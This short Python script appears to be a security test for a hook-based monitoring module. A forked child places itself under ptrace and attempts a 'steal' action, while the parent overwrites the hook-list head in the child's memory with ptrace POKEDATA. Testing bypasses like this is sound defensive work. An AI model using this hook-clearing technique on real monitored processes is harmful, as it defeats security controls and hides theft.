# SPDX-License-Identifier: Apache-2.0
import goal
import ctypes
import os
import signal
import native
TRACEME, POKEDATA, CONT = 0, 5, 7
head = native.hook_head()
ptrace = native.libc.ptrace
ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p,
                   ctypes.c_void_p]
pid = os.fork()
if not pid:
    ptrace(TRACEME, 0, None, None)
    os.kill(os.getpid(), signal.SIGSTOP)
    goal.attempt(goal.steal)
    os._exit(0)
os.waitpid(pid, 0)
ptrace(POKEDATA, pid, head, None)
ptrace(CONT, pid, None, None)
os.waitpid(pid, 0)
